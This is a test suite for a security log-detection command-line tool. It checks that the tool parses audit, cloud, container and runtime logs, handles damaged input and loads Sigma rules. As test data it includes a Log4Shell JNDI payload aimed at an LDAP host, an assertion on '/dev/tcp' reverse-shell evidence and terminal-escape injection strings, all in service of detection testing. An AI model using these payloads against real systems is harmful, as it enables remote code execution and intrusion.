"""Each source in its real format, bad input, rule loading reports, output formats -- through
the CLI as a user would run it."""

from __future__ import annotations

import gzip
import json
import os
import subprocess
import sys
import time
from datetime import timedelta
from pathlib import Path

import orjson
import pytest

from devtools.detectgen import audit as synth
from tests.conftest import REPO, SHARED, run_cli

SAMPLES = REPO / "devtools" / "samples" / "logs"


def detect(*args: str, input: bytes | None = None) -> tuple[int, dict, str]:
    proc = run_cli("detect", *args, "--format", "json", "--no-state", input=input)
    report = json.loads(proc.stdout) if proc.stdout.strip().startswith("{") else {}
    assert "Traceback" not in proc.stderr, proc.stderr
    return proc.returncode, report, proc.stderr


def rules_of(report: dict) -> set[str]:
    return {f["rule"] for f in report.get("findings", [])}


def by_rule(report: dict, rule: str) -> dict:
    return next(f for f in report["findings"] if f["rule"] == rule)


# -- one real-format sample per source ---------------------------------------------------------


def test_k8s_audit_sample_gzip_log_backend() -> None:
    code, report, _ = detect("--source", "k8s-audit", str(SAMPLES / "k8s-audit"))
    assert code == 0
    exec_f = by_rule(report, "SW-K8S-EXEC")
    assert exec_f["resource"] == {
        "type": "k8s:Pod",
        "name": "etl-debug",
        "namespace": "data",
        "workload": "Pod/etl-debug",
    }
    assert exec_f["first_seen"].startswith("2026-03-02T")


def test_k8s_audit_eventlist_and_cloudwatch_export(tmp_path: Path) -> None:
    story = synth.attack_story(synth.START)
    # webhook backend: an EventList body
    (tmp_path / "webhook.json").write_bytes(
        orjson.dumps({"kind": "EventList", "apiVersion": "audit.k8s.io/v1", "metadata": {}, "items": story})
    )
    code, report, _ = detect("--source", "k8s-audit", str(tmp_path / "webhook.json"))
    assert code == 0 and "SW-K8S-EXEC" in rules_of(report)
    # EKS control-plane logs exported from CloudWatch Logs to S3: "TIMESTAMP {event}"
    lines = [f"2026-03-02T09:00:0{i}.000Z ".encode() + orjson.dumps(ev) for i, ev in enumerate(story)]
    (tmp_path / "000000.gz").write_bytes(gzip.compress(b"\n".join(lines) + b"\n"))
    code, report, _ = detect("--source", "k8s-audit", str(tmp_path / "000000.gz"))
    assert code == 0 and {"SW-K8S-EXEC", "SW-K8S-PRIVILEGED-POD"} <= rules_of(report)


def test_cloudtrail_records_file_and_json_lines(tmp_path: Path) -> None:
    code, report, _ = detect("--source", "cloudtrail", str(SAMPLES / "cloudtrail"))
    assert code == 0
    ex = by_rule(report, "SW-AWS-ECS-EXEC")
    assert ex["resource"]["type"] == "ecs:task" and ex["resource"]["namespace"] == "prod"
    assert ex["resource"]["name"] == "5f3e2d1c0b9a48776655443322110000"
    assert by_rule(report, "SW-AWS-ECR-BULK-DELETE")["count"] == 7
    assert {
        "SW-AWS-ECR-POLICY-CROSS-ACCOUNT",
        "SW-AWS-ECR-PULL-NEW-ACCOUNT",
        "SW-AWS-ECS-DRIFT-RISKY",
        "SW-AWS-EKS-LOGGING-DISABLED",
        "SW-AWS-EKS-PUBLIC-ENDPOINT",
        "SW-AWS-CLOUDTRAIL-STOPPED",
    } <= rules_of(report)
    # the same records as JSON lines on stdin
    doc = orjson.loads(gzip.decompress(next((SAMPLES / "cloudtrail").iterdir()).read_bytes()))
    data = b"\n".join(orjson.dumps(r) for r in doc["Records"])
    code, report2, _ = detect("--source", "cloudtrail", "-", input=data)
    assert code == 0 and rules_of(report2) == rules_of(report)


def test_container_logs_cri_docker_and_awslogs(tmp_path: Path) -> None:
    code, report, _ = detect("--source", "container-logs", str(SAMPLES / "container-logs"))
    assert code == 0
    sqli = by_rule(report, "SW-LOG-SQLI")
    assert sqli["resource"] == {
        "type": "k8s:Pod",
        "name": "frontend-6f7d9c8b4-x2kqz",
        "namespace": "shop",
        "workload": "Pod/frontend-6f7d9c8b4-x2kqz",
    }
    miner = by_rule(report, "SW-LOG-MINER")
    assert miner["resource"]["type"] == "container" and miner["count"] == 4
    assert {"SW-LOG-PATH-TRAVERSAL", "SW-LOG-LOG4SHELL"} <= rules_of(report)
    # awslogs driver, exported with `aws logs filter-log-events`
    (tmp_path / "events.json").write_bytes(
        orjson.dumps(
            {
                "events": [
                    {
                        "logStreamName": "ecs/web/5f3e2d1c0b9a4877",
                        "timestamp": 1772442000000,
                        "message": "GET /?x=${jndi:ldap://198.51.100.9/a} 200",
                        "ingestionTime": 1772442001000,
                        "eventId": "1",
                    }
                ]
            }
        )
    )
    code, report, _ = detect("--source", "container-logs", str(tmp_path / "events.json"))
    f = by_rule(report, "SW-LOG-LOG4SHELL")
    assert f["resource"]["type"] == "ecs:task" and f["resource"]["name"] == "5f3e2d1c0b9a4877"
    assert f["first_seen"] == "2026-03-02T09:00:00.000000Z"


def test_falco_and_tetragon_samples() -> None:
    code, report, _ = detect("--source", "falco", str(SAMPLES / "falco"))
    assert code == 0
    crit = by_rule(report, "SW-RT-FALCO-CRITICAL")
    assert crit["extra"]["key"] == {"rule": "Drop and execute new binary in container"}
    assert crit["resource"]["namespace"] == "shop"
    assert {"SW-RT-MINER", "SW-RT-SHELL-IN-CONTAINER"} <= rules_of(report)
    code, report, _ = detect("--source", "tetragon", str(SAMPLES / "tetragon"))
    assert code == 0
    rs = by_rule(report, "SW-RT-REVERSE-SHELL")
    assert rs["resource"] == {
        "type": "k8s:Deployment",
        "name": "frontend",
        "namespace": "shop",
        "workload": "Deployment/frontend",
    }
    assert "/dev/tcp/198.51.100.4" in rs["evidence"]


# -- bad input -----------------------------------------------------------------------------------


def _story_lines() -> list[bytes]:
    return [orjson.dumps(e) for e in synth.attack_story(synth.START)]


def test_truncated_gzip_keeps_what_was_read(tmp_path: Path) -> None:
    body = b"\n".join(list(synth.generate(3000, story_at=10, step_ms=1)))
    blob = gzip.compress(body + b"\n")
    (tmp_path / "cut.gz").write_bytes(blob[: int(len(blob) * 0.6)])
    code, report, err = detect("--source", "k8s-audit", str(tmp_path / "cut.gz"))
    assert code == 0
    assert "input damaged" in err
    assert "SW-K8S-ANONYMOUS-ALLOWED" in rules_of(report)


def test_truncated_big_gzip_keeps_every_line_before_the_damage(tmp_path: Path) -> None:
    # many reads' worth of lines (not yet a whole batch) before the damage: none of them is lost
    lines = list(synth.generate(20_000, story_at=5_000, step_ms=1))
    blob = gzip.compress(b"\n".join(lines) + b"\n")
    (tmp_path / "cut.gz").write_bytes(blob[: int(len(blob) * 0.9)])
    code, report, err = detect("--source", "k8s-audit", str(tmp_path / "cut.gz"))
    assert code == 0 and "input damaged" in err
    events = report["target"]["metadata"]["events"]
    assert 0.85 * len(lines) < events < len(lines)
    assert "SW-K8S-ANONYMOUS-ALLOWED" in rules_of(report)


def test_garbage_alone_is_exit_2_with_one_line(tmp_path: Path) -> None:
    (tmp_path / "garbage.bin").write_bytes(os.urandom(200_000).replace(b"\n", b"x") + b"\n" + os.urandom(999))
    code, _, err = detect("--source", "k8s-audit", str(tmp_path / "garbage.bin"))
    assert code == 2
    assert err.startswith("seawall: error: no event could be read")
    assert len(err.strip().splitlines()) == 1


def test_hostile_lines_are_counted_and_the_rest_goes_on(tmp_path: Path) -> None:
    story = _story_lines()
    exec_line = story[3].replace(b"kubectl/v1.28.0", b"kubectl\xff\xfe")  # invalid UTF-8
    deep = b'{"a":' + b"[" * 50_000 + b"]" * 50_000 + b"}"
    no_time = orjson.dumps(
        {
            k: v
            for k, v in orjson.loads(story[0]).items()
            if k not in ("stageTimestamp", "requestReceivedTimestamp")
        }
    )
    path = tmp_path / "mixed.log"
    with open(path, "wb") as out:
        out.write(b"this is not json\n")
        out.write(b'{"kind": "Event", "verb": \n')
        out.write(deep + b"\n")
        out.write(b"{" + b'"x":"' + b"A" * (100 << 20) + b'"}\n')  # a 100 MB single line
        out.write(no_time + b"\n")
        out.write(exec_line + b"\n")
    code, report, _ = detect("--source", "k8s-audit", str(path))
    assert code == 0
    assert {"SW-K8S-EXEC", "SW-K8S-ANONYMOUS-ALLOWED"} <= rules_of(report)
    warnings = " ".join(report["warnings"])
    assert "3 malformed line(s) skipped" in warnings and "mixed.log:1:" in warnings
    assert "1 line(s) longer than the line limit skipped" in warnings
    assert "invalid UTF-8" in warnings and "without a readable timestamp" in warnings
    assert by_rule(report, "SW-K8S-EXEC")["location"]["line"] == 6


def test_attacker_strings_are_escaped_in_the_table(tmp_path: Path) -> None:
    ev = orjson.loads(_story_lines()[3])
    ev["objectRef"]["name"] = "[bold red]pwned[/] \x1b[31mX"
    (tmp_path / "a.log").write_bytes(orjson.dumps(ev) + b"\n")
    proc = run_cli("detect", "-s", "k8s-audit", str(tmp_path / "a.log"), "--no-state")
    assert proc.returncode == 0
    assert "[bold red]pwned[/]" in proc.stdout and "\x1b[31m" not in proc.stdout


# -- rules --------------------------------------------------------------------------------------


@pytest.mark.parametrize("where", ["bundled", "shared"])
def test_sigma_rules_all_accounted_for(where: str) -> None:
    if where == "bundled":
        sigma = REPO / "src" / "seawall" / "data" / "sigma"
    else:
        sigma = SHARED / "rules" / "sigma"
        if not sigma.is_dir():
            pytest.skip(f"the full SigmaHQ set is not at {sigma} (set SEAWALL_SHARED); bundled subset tested")
    # (seawall's own pipeline and filters beside the bundled rules are not rule files)
    files = len([p for p in sigma.rglob("*.yml") if "seawall" not in p.relative_to(sigma).parts[:1]])
    proc = run_cli("detect", "--no-builtin", "--no-sigma", "--rules", str(sigma), "--rules-report")
    assert proc.returncode == 0, proc.stderr
    out = proc.stdout
    assert f"rule files read: {files}" in out
    loaded = int(out.split("rules loaded: ")[1].split(" sigma")[0])
    not_loaded = int(out.split("rules not loaded or not runnable: ")[1].split("\n")[0])
    assert loaded >= 250
    assert loaded + not_loaded == files  # none dropped silently
    if where == "shared":
        assert "logsource linux/auditd" in out


def test_broken_and_unsupported_sigma_rules_are_reported(tmp_path: Path) -> None:
    (tmp_path / "syntax.yml").write_text("title: broken\ndetection: [unclosed\n")
    (tmp_path / "lookaround.yml").write_text(
        "title: lookaround\nid: 0e1d1bd2-0000-4000-8000-000000000001\n"
        "logsource: {product: kubernetes, service: audit}\n"
        "detection:\n  sel:\n    requestURI|re: '(?<=/api)/v1'\n  condition: sel\nlevel: high\n"
    )
    (tmp_path / "ok.yml").write_text(
        "title: exec seen\nid: 0e1d1bd2-0000-4000-8000-000000000002\n"
        "logsource: {product: kubernetes, service: audit}\n"
        "detection:\n  sel:\n    objectRef.subresource: exec\n  condition: sel\nlevel: high\n"
        "tags: [attack.t1609]\n"
    )
    proc = run_cli("detect", "--rules", str(tmp_path), "--rules-report", "--source", "k8s-audit")
    assert "syntax.yml" in proc.stdout and "parse-error" in proc.stdout
    assert "lookaround.yml" in proc.stdout and "look-around" in proc.stdout and "unsupported" in proc.stdout
    log = tmp_path / "audit.log"
    log.write_bytes(b"\n".join(_story_lines()) + b"\n")
    # a rule file that does not parse is an error when detecting (exit 2, one line), not a silent drop
    code, report, err = detect("--source", "k8s-audit", "--rules", str(tmp_path), str(log))
    last = err.strip().splitlines()[-1]
    assert code == 2 and not report and last.startswith("seawall: error: --rules") and "syntax.yml" in last
    (tmp_path / "syntax.yml").unlink()
    code, report, _ = detect("--source", "k8s-audit", "--rules", str(tmp_path), str(log))
    assert code == 0
    f = by_rule(report, "sigma:0e1d1bd2-0000-4000-8000-000000000002")
    assert f["attack"] == ["T1609"] and f["severity"] == "high"


def test_native_rule_file_with_threshold(tmp_path: Path) -> None:
    (tmp_path / "mine.yaml").write_text(
        "rules:\n- id: MY-LIST-BURST\n  title: many lists\n  severity: low\n  source: k8s-audit\n"
        "  detection:\n    sel: {verb: list}\n    condition: sel\n"
        "  threshold: {count: 3, window: 10m, by: [actor]}\n"
    )
    log = tmp_path / "audit.log"
    listing = synth.attack_story(synth.START)[1]
    requests = [orjson.dumps({**listing, "auditID": f"0e1d1bd2-{i:04d}"}) for i in range(4)]
    # four requests, and the last one logged a second time (another stage): counted once
    log.write_bytes(b"\n".join([*requests, requests[-1]]) + b"\n")
    _, report, _ = detect(
        "-s", "k8s-audit", "--no-builtin", "--no-sigma", "--rules", str(tmp_path / "mine.yaml"), str(log)
    )
    f = by_rule(report, "MY-LIST-BURST")
    assert f["count"] == 4 and f["extra"]["threshold"]["key"] == synth.STORY_ACTOR


# -- outputs, state, follow, flows --------------------------------------------------------------


def test_ocsf_and_fail_on(tmp_path: Path) -> None:
    log = tmp_path / "audit.log"
    log.write_bytes(b"\n".join(_story_lines()) + b"\n")
    proc = run_cli("detect", "-s", "k8s-audit", str(log), "--no-state", "--fail-on", "critical", "-f", "json")
    assert proc.returncode == 1
    ocsf = run_cli("detect", "-s", "k8s-audit", str(log), "--no-state", "-f", "ocsf")
    assert ocsf.returncode == 0, ocsf.stderr
    events = json.loads(ocsf.stdout)
    events = events if isinstance(events, list) else [events]
    assert events and all(e["class_uid"] == 2004 for e in events)


def test_first_seen_state_persists_across_runs(tmp_path: Path) -> None:
    state = tmp_path / "state.sqlite"
    early = synth.audit_event(synth.START, "get", "kubernetes-admin", resource="pods", namespace="default")
    late = synth.audit_event(
        synth.START.replace(hour=12), "get", "carol", resource="pods", namespace="default"
    )
    (tmp_path / "1.log").write_bytes(orjson.dumps(early) + b"\n")
    (tmp_path / "2.log").write_bytes(orjson.dumps(late) + b"\n")
    for name in ("1.log", "2.log"):
        proc = run_cli("detect", "-s", "k8s-audit", str(tmp_path / name), "--state", str(state), "-f", "json")
        assert proc.returncode == 0
    assert "SW-K8S-NEW-USER" in rules_of(json.loads(proc.stdout))
    proc = run_cli("detect", "-s", "k8s-audit", str(tmp_path / "2.log"), "--state", str(state), "-f", "json")
    assert "SW-K8S-NEW-USER" not in rules_of(json.loads(proc.stdout))


def test_learning_period_of_the_first_seen_rules(tmp_path: Path) -> None:
    """--learning-period replaces every first-seen rule's own (1h for new users): who is new is
    what the period says."""
    log = tmp_path / "audit.log"
    log.write_bytes(
        b"\n".join(
            orjson.dumps(synth.audit_event(synth.START + timedelta(minutes=m), "get", who, resource="pods",
                                           namespace="default"))
            for m, who in ((0, "kubernetes-admin"), (20, "carol"), (120, "dave"))
        )
        + b"\n"
    )

    def new_users(*more: str) -> list[str]:
        proc = run_cli("detect", "-s", "k8s-audit", str(log), "--no-state", "-f", "json", *more)
        assert proc.returncode == 0, proc.stderr
        found = json.loads(proc.stdout)["findings"]
        return sorted(f["extra"]["first_seen"]["key"] for f in found if f["rule"] == "SW-K8S-NEW-USER")

    assert new_users() == ["dave"]
    assert new_users("--learning-period", "10m") == ["carol", "dave"]
    assert new_users("--learning-period", "3h") == []
    proc = run_cli("detect", "-s", "k8s-audit", str(log), "--no-state", "--learning-period", "soon")
    assert proc.returncode == 2
    assert proc.stderr.strip().splitlines()[-1].startswith("seawall: error: --learning-period")


def test_follow_streams_jsonl_as_findings_occur(tmp_path: Path) -> None:
    log = tmp_path / "live.log"
    log.write_bytes(b"\n".join(list(synth.generate(50))) + b"\n")
    proc = subprocess.Popen(
        [
            sys.executable,
            "-m",
            "seawall",
            "detect",
            "-s",
            "k8s-audit",
            str(log),
            "--follow",
            "--follow-idle",
            "6",
            "-f",
            "jsonl",
            "--no-state",
        ],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
    )
    try:
        time.sleep(2)
        with open(log, "ab") as out:
            out.write(_story_lines()[3] + b"\n")
        assert proc.stdout is not None
        first = json.loads(proc.stdout.readline())
        assert first["rule"] in ("SW-K8S-EXEC", "sigma:a1b0ca4e-7835-413e-8471-3ff2b8a66be6")
        proc.wait(timeout=30)
    finally:
        if proc.poll() is None:
            proc.kill()
    assert proc.returncode == 0


@pytest.mark.parametrize("source", ["vpc-flow", "hubble", "pcap"])
def test_flow_sources_dispatch_to_network(source: str, tmp_path: Path) -> None:
    empty = tmp_path / "flows.txt"
    empty.write_text("")
    proc = run_cli("detect", "--source", source, str(empty), "--format", "json")
    assert "Traceback" not in proc.stderr
    assert proc.returncode in (0, 1, 2)
    if proc.returncode == 2:
        assert proc.stderr.startswith("seawall: error:")
